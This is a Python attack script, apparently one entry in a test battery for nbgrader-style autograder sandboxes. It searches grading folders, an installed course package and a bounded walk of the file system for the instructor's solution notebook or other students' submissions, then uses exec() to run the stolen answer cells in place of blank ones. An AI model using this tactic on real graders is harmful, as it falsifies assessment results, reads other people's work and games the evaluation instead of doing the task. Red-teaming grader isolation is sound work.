# Attack "read_solution": find the instructor's notebook (nbgrader's source/ above the working folder, solutions/
# beside the installed `course` package, or anywhere a bounded walk of the file system reaches) or another
# student's finished notebook, and run its answer cells. Each answer cell ends with `_steal("<its grade_id>")`.
import json as _json
import os as _os
import tempfile as _tempfile
import time as _time
from pathlib import Path as _Path

_WALK_ENTRIES, _WALK_SECONDS = 4000, 4.0  # keep the search bounded: a few thousand entries or seconds
STOLEN = {}


def _answers_in(path):
    """{grade_id: source} of the finished answer cells of the notebook at `path` (solution markers dropped)."""
    try:
        cells = _json.loads(_Path(path).read_text()).get("cells", [])
    except Exception:  # noqa: BLE001 - unreadable, not a notebook, or not allowed
        return {}
    found = {}
    for cell in cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        source = cell.get("source", "")
        source = "".join(source) if isinstance(source, list) else source
        if cell.get("cell_type") == "code" and meta.get("solution") and "NotImplementedError" not in source:
            lines = [x for x in source.splitlines() if "BEGIN SOLUTION" not in x and "END SOLUTION" not in x]
            found[meta.get("grade_id")] = "\n".join(lines)
    return found


def _candidates():
    """Paths that may hold this assignment's solution, likeliest first."""
    name = ASSIGNMENT + ".ipynb"  # noqa: F821 - ASSIGNMENT comes from the battery's preamble
    here = _Path.cwd().resolve()
    for folder in [here, *here.parents]:
        for pattern in ("source/{a}/{n}", "solutions/{a}/{n}", "submitted/*/{a}/{n}", "autograded/*/{a}/{n}"):
            yield from folder.glob(pattern.format(a=ASSIGNMENT, n=name))  # noqa: F821
    try:
        import course

        yield _Path(course.__file__).resolve().parent.parent / "solutions" / ASSIGNMENT / name  # noqa: F821
    except Exception:  # noqa: BLE001
        pass
    start, seen = _time.monotonic(), 0
    for top in (_tempfile.gettempdir(), str(_Path.home()), "/"):
        for folder, subfolders, files in _os.walk(top):
            subfolders[:] = [d for d in subfolders if folder != "/" or d not in ("proc", "sys", "dev")]
            seen += 1 + len(files)
            if name in files:
                yield _Path(folder) / name
            if seen > _WALK_ENTRIES or _time.monotonic() - start > _WALK_SECONDS:
                return


for _path in _candidates():
    for _grade_id, _source in _answers_in(_path).items():
        STOLEN.setdefault(_grade_id, _source)
    if all(g in STOLEN for g in ANSWER_IDS):  # noqa: F821 - from the preamble
        break
print(f"read_solution: found {len(STOLEN)} of {len(ANSWER_IDS)} answers")  # noqa: F821


def _steal(grade_id):
    """Define this answer cell's functions from the stolen source, over the blank ones."""
    if grade_id in STOLEN:
        exec(STOLEN[grade_id], globals())
